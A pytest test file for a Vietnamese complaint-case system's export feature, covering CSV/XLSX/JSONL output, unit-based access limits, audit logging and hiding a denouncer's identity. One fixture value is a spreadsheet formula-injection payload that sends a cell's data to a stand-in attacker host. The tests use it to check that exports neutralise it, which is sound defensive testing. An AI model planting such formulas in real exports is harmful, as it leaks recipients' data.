"""Issue 14, exports from the web (/xuat-du-lieu) and ``donthu export``'s new options.

Web: CSV with a BOM and every contract column (``received_at`` after ``status``, in local time), XLSX that opens
(Vietnamese headings, bold and frozen, dates as dates, a "=" value kept as text), JSON Lines that parse; only the
cases of the user's units; a protected case whose identity the supervisor may not see (it was forwarded from
another unit) in the hand-off form; a mistyped status is 422 with the message, not an empty file; reception and
verifiers get 403; each download audited. CLI: a mistyped status exits 2 and writes nothing; XLSX; ``--since``.

Units: T (thành phố) → T.BTCD (the home unit), T.P1, T.P2. Accounts: stationkit's one per role (no unit: the home
unit), ``sup`` (supervisor of T: sees everything) and ``sup1`` (supervisor of the ward T.P1).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from types import SimpleNamespace

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from stationkit import PASSWORD, login, seed_case, users

from donthu.api.app import create_app
from donthu.config import get_settings, reset_settings
from donthu.contract import LOCAL_TZ
from donthu.exchange.rows import COLUMN_LABELS, COLUMNS
from donthu.handling.units import ensure_units
from donthu.privacy import policy
from donthu.storage.db import session_scope
from donthu.storage.export import CSV_COLUMNS
from donthu.storage.models import AuditLog, Case
from donthu.storage.objects import make_store
from donthu.storage.users import create_user, set_unit_code

UNITS = """code,name,kind,parent,abolished_on,successor,remote,parent_name,symbol,place,signer_title,signer_name
T,Thành phố Mẫu,tinh,,,,0,,UBND,Mẫu,CHỦ TỊCH,
T.BTCD,Ban tiếp công dân thành phố,ban_tcd,T,,,0,UBND THÀNH PHỐ MẪU,BTCD,Mẫu,TRƯỞNG BAN,Trần Thị Ban
T.P1,Phường Một,phuong,T,,,0,UBND THÀNH PHỐ MẪU,UBND,Phường Một,CHỦ TỊCH,Ngô Văn Một
T.P2,Phường Hai,phuong,T,,,0,UBND THÀNH PHỐ MẪU,UBND,Phường Hai,CHỦ TỊCH,
"""
DENOUNCER = "Lê Văn Hùng"
DENUNCIATION = [
    "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
    "ĐƠN TỐ CÁO",
    "Kính gửi: Thanh tra thành phố",
    f"Họ và tên: {DENOUNCER}",
    "Địa chỉ: số 7 phố Huế",
    "Tôi tố cáo ông Vũ Văn Tám cán bộ địa chính nhận hối lộ",
    "Về việc: nhận hối lộ khi cấp giấy chứng nhận",
]
FORMULA = '=HYPERLINK("http://ke-xau.example/?d="&A2,"Bấm vào đây")'
# 10:00 in Hà Nội on 2 March 2026
RECEIVED = dt.datetime(2026, 3, 2, 3, 0, tzinfo=dt.UTC)


@pytest.fixture()
def world(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> SimpleNamespace:
    path = tmp_path / "units.csv"
    path.write_text(UNITS, encoding="utf-8")
    monkeypatch.setenv("DONTHU_UNITS_FILE", str(path))
    monkeypatch.setenv("DONTHU_HOME_UNIT", "T.BTCD")
    reset_settings()
    settings = get_settings()
    store = make_store(settings)
    with session_scope() as db:
        ensure_units(db, settings)
        users(db, extra=())
        for name, unit in (("sup", "T"), ("sup1", "T.P1")):
            set_unit_code(db, "test", create_user(db, name, PASSWORD, "supervisor", f"Lãnh đạo {name}"), unit)
        kn = seed_case(db, store, 1, received_at=RECEIVED)  # pending, the home unit
        kn.subject = FORMULA
        ward = seed_case(db, store, 2, received_at=RECEIVED - dt.timedelta(days=40), status="verified")
        ward.unit_code, ward.handling_stage = "T.P1", "cho_xu_ly"
        ward.complainant_name = "Trần Văn Phường"
        tc = seed_case(
            db,
            store,
            3,
            DENUNCIATION,
            category="to_cao",
            name=DENOUNCER,
            status="verified",
            received_at=RECEIVED,
        )
        # forwarded from T.P1 to T.P2: only T.P1's cleared staff may still see the denouncer (Luật Tố cáo art. 8)
        tc.unit_code, tc.handling_stage, tc.identity_unit = "T.P2", "cho_xu_ly", "T.P1"
        db.flush()
        assert tc.identity_protected
        ids = SimpleNamespace(kn=kn.case_id, ward=ward.case_id, tc=tc.case_id)
    return SimpleNamespace(ids=ids, app=create_app())


def client(world: SimpleNamespace, username: str) -> TestClient:
    c = TestClient(world.app)
    assert login(c, username) == 303
    return c


def download(c: TestClient, **params: str):
    return c.get("/xuat-du-lieu/tai-ve", params=params)


def export_audits() -> list[AuditLog]:
    with session_scope() as db:
        rows = list(db.scalars(select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.id)))
        db.expunge_all()
        return rows


def test_csv_has_a_bom_every_contract_column_and_the_date_received(world: SimpleNamespace) -> None:
    res = download(client(world, "sup"), format="csv")
    assert res.status_code == 200, res.text[:300]
    assert res.headers["content-type"].startswith("text/csv")
    assert "attachment" in res.headers["content-disposition"] and ".csv" in res.headers["content-disposition"]
    raw = res.content
    assert raw.startswith(b"\xef\xbb\xbf"), "no BOM: Excel would show the Vietnamese garbled"
    reader = csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))
    header = list(reader.fieldnames or [])
    assert header == list(COLUMNS) and set(CSV_COLUMNS) <= set(header)
    assert header[header.index("status") + 1] == "received_at"
    rows = {r["case_id"]: r for r in reader}
    assert set(rows) == {world.ids.kn, world.ids.ward, world.ids.tc}
    kn = rows[world.ids.kn]
    assert kn["received_at"] == "2026-03-02T10:00:00+07:00"
    assert kn["complainant.name"] == "Phan Thị Mai" and kn["subject"] == "'" + FORMULA  # formula neutralised
    assert kn["complainant.id_number"] == "001190012345" and kn["status"] == "pending_verification"
    # forwarded from another unit: the supervisor of T is cleared, but not of the unit holding the identity
    tc = rows[world.ids.tc]
    assert DENOUNCER not in raw.decode("utf-8-sig")
    assert tc["complainant.name"] == policy.HIDDEN and tc["source_file"].startswith("tep-")
    assert tc["unit"] == "T.P2" and tc["handling_stage"] == "cho_xu_ly"
    (audit,) = export_audits()
    assert audit.actor == "sup" and audit.detail["format"] == "csv" and audit.detail["count"] == 3
    assert audit.detail["filters"] == {}


def test_xlsx_opens_and_jsonl_lines_parse(world: SimpleNamespace) -> None:
    from openpyxl import load_workbook

    c = client(world, "sup")
    res = download(c, format="xlsx", status="pending_verification")
    assert res.status_code == 200, res.text[:300]
    assert res.headers["content-type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(res.content))
    ws = wb["Hồ sơ"]
    header = [c.value for c in ws[1]]
    assert header == [COLUMN_LABELS[k] for k in COLUMNS] and "Ngày tiếp nhận" in header
    assert all(c.font.b for c in ws[1]) and ws.freeze_panes == "A2"
    assert ws.max_row == 2  # the heading and the one pending case
    row = {COLUMNS[i]: c for i, c in enumerate(ws[2])}
    assert row["case_id"].value == world.ids.kn
    assert row["received_at"].is_date and row["received_at"].value == dt.datetime(2026, 3, 2, 10, 0)
    assert row["subject"].value == FORMULA and row["subject"].data_type == "s"  # text, never a formula
    legend = {r[2]: r[1] for r in wb["Cột dữ liệu"].iter_rows(min_row=2, values_only=True)}
    assert legend["received_at"] == "Ngày tiếp nhận" and set(legend) == set(COLUMNS)
    (audit,) = export_audits()
    assert audit.detail["format"] == "xlsx" and audit.detail["count"] == 1
    assert audit.detail["filters"] == {"status": "pending_verification"}
    jsonl_lines_parse_and_follow_the_filters(world, c)


def jsonl_lines_parse_and_follow_the_filters(world: SimpleNamespace, c: TestClient) -> None:
    res = download(c, format="jsonl", status="verified", unit="T.P1")
    assert res.status_code == 200, res.text[:300]
    rows = [json.loads(line) for line in res.text.splitlines()]
    assert [r["case_id"] for r in rows] == [world.ids.ward]
    assert rows[0]["received_at"].endswith("Z") and rows[0]["complainant"]["name"] == "Trần Văn Phường"
    by_date = download(c, format="jsonl", date_from="2026-03-02", date_to="2026-03-02").text.splitlines()
    assert {json.loads(line)["case_id"] for line in by_date} == {world.ids.kn, world.ids.tc}
    assert download(c, format="jsonl", date_from="2026-03-03").text == ""
    later = (dt.datetime.now(LOCAL_TZ).date() + dt.timedelta(days=1)).isoformat()
    assert download(c, format="jsonl", since=later).text == ""  # nothing changed since tomorrow


def test_only_the_units_of_the_user_and_only_leaders(world: SimpleNamespace) -> None:
    ward = client(world, "sup1")
    res = download(ward, format="jsonl")
    assert [json.loads(line)["case_id"] for line in res.text.splitlines()] == [world.ids.ward]
    refused = download(ward, format="csv", unit="T.P2")
    assert refused.status_code == 422 and "không thuộc phạm vi" in refused.text
    page = ward.get("/xuat-du-lieu")
    assert page.status_code == 200 and 'value="T.P1"' in page.text and 'value="T.P2"' not in page.text
    a_mistyped_status_is_an_error_not_an_empty_file(world)
    who_may_export(world)


def a_mistyped_status_is_an_error_not_an_empty_file(world: SimpleNamespace) -> None:
    res = download(client(world, "sup"), format="csv", status="verifed")
    assert res.status_code == 422 and res.headers["content-type"].startswith("text/html")
    assert "verifed" in res.text and "pending_verification" in res.text and "returned" in res.text
    assert download(client(world, "sup"), format="pdf").status_code == 422
    assert download(client(world, "sup"), format="csv", date_from="02/03/2026").status_code == 422
    assert [a.actor for a in export_audits()] == ["sup1"]  # the first download above, nothing since


def who_may_export(world: SimpleNamespace) -> None:
    for role in ("reception", "verifier", "archivist"):
        c = client(world, role)
        assert c.get("/xuat-du-lieu").status_code == 403
        assert download(c, format="csv").status_code == 403
        assert 'href="/xuat-du-lieu"' not in c.get("/documents").text
    admin = client(world, "admin")
    page = admin.get("/xuat-du-lieu")
    assert page.status_code == 200 and 'id="export-form"' in page.text and 'href="/xuat-du-lieu"' in page.text
    assert download(admin, format="csv").status_code == 200
    assert export_audits()[-1].actor == "admin"


# ---------------------------------------------------------------------------------------------- CLI
def test_cli_export_checks_the_status_and_writes_xlsx(world: SimpleNamespace, tmp_path: Path) -> None:
    from openpyxl import load_workbook
    from typer.testing import CliRunner

    from donthu.cli import app as cli

    out = tmp_path / "hoso.csv"
    res = CliRunner().invoke(cli, ["export", "--format", "csv", "--status", "verifed", "-o", str(out)])
    assert res.exit_code == 2 and not out.exists()
    assert "verifed" in res.output and "pending_verification" in res.output and "returned" in res.output
    assert CliRunner().invoke(cli, ["export", "--format", "docx", "-o", str(out)]).exit_code == 2
    assert CliRunner().invoke(cli, ["export", "--since", "hôm qua", "-o", str(out)]).exit_code == 2
    assert not out.exists()
    res = CliRunner().invoke(cli, ["export", "--format", "csv", "--status", "verified", "-o", str(out)])
    assert res.exit_code == 0, res.output
    with open(out, encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    assert {r["case_id"] for r in table} == {world.ids.ward, world.ids.tc}
    assert {r["received_at"][-6:] for r in table} == {"+07:00"}
    book = tmp_path / "hoso.xlsx"
    res = CliRunner().invoke(cli, ["export", "--format", "xlsx", "-o", str(book)])
    assert res.exit_code == 0, res.output
    assert load_workbook(book)["Hồ sơ"].max_row == 4
    since = tmp_path / "since.jsonl"
    tomorrow = (dt.datetime.now(LOCAL_TZ).date() + dt.timedelta(days=1)).isoformat()
    res = CliRunner().invoke(cli, ["export", "--since", tomorrow, "-o", str(since)])
    assert res.exit_code == 0 and since.read_text(encoding="utf-8") == ""
    with session_scope() as db:
        audit = db.scalars(select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.id)).all()
        assert [a.detail["format"] for a in audit] == ["csv", "xlsx", "jsonl"]
        assert audit[0].detail["filters"] == {"status": "verified"} and audit[0].detail["count"] == 2
        assert db.scalar(select(Case.id).where(Case.case_id == world.ids.kn)) is not None


def test_the_national_database_profile(
    world: SimpleNamespace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """NĐ 55/2022 from the web (the user's units, identity as they may see it: exchange/nd55.py) and the CLI."""
    from typer.testing import CliRunner

    import donthu.exchange.nd55 as nd55
    from donthu.cli import app as cli

    # the bundled code table with this test's units added (the table maps every unit: exchange/nd55_codes.py)
    bundled = (Path(nd55.__file__).parent / "data" / "nd55-codes.csv").read_text(encoding="utf-8")
    codes = tmp_path / "nd55-codes.csv"
    units = "".join(f"co_quan,{u},TAM-CQ-{u},{u},\n" for u in ("T", "T.BTCD", "T.P1", "T.P2"))
    codes.write_text(bundled.rstrip("\n") + "\n" + units, encoding="utf-8")
    monkeypatch.setenv("DONTHU_ND55_CODES_FILE", str(codes))
    reset_settings()
    world.app = create_app()
    c = client(world, "sup")
    res = download(c, format="nd55")
    assert res.status_code == 200, res.text[:300]
    assert ".jsonl" in res.headers["content-disposition"]
    records = [json.loads(line) for line in res.text.splitlines()]
    assert records and {r["profile"] for r in records} == {"nd55"}
    assert {r["case_id"] for r in records} <= {world.ids.ward, world.ids.tc}  # verified cases only
    assert DENOUNCER not in res.text  # forwarded from another unit: no identity for this supervisor
    (audit,) = export_audits()
    assert (
        audit.detail["format"] == "nd55"
        and audit.detail["count"] >= 1
        and audit.detail["records"] == len(records)
    )
    refused = download(c, format="nd55", status="verified")
    assert refused.status_code == 422 and "thay đổi từ ngày" in refused.text
    out = tmp_path / "nd55.jsonl"
    assert CliRunner().invoke(cli, ["export", "--since", "last", "-o", str(out)]).exit_code == 2
    assert (
        CliRunner().invoke(cli, ["export", "--profile", "nd55", "--format", "csv", "-o", str(out)]).exit_code
        == 2
    )
    assert CliRunner().invoke(cli, ["export", "--profile", "nd56", "-o", str(out)]).exit_code == 2
    assert not out.exists()
    res = CliRunner().invoke(cli, ["export", "--profile", "nd55", "-o", str(out)])
    assert res.exit_code == 0, res.output
    lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert {r["case_id"] for r in lines} == {world.ids.ward, world.ids.tc} and "Đã xuất" in res.output
    again = tmp_path / "again.jsonl"
    res = CliRunner().invoke(cli, ["export", "--profile", "nd55", "--since", "last", "-o", str(again)])
    assert res.exit_code == 0, res.output
    # from where the last run stopped (less a few minutes' overlap: the same record ids, nothing duplicated)
    resent = [json.loads(line)["record_id"] for line in again.read_text(encoding="utf-8").splitlines()]
    assert set(resent) <= {r["record_id"] for r in lines} and "thay đổi từ" in res.output
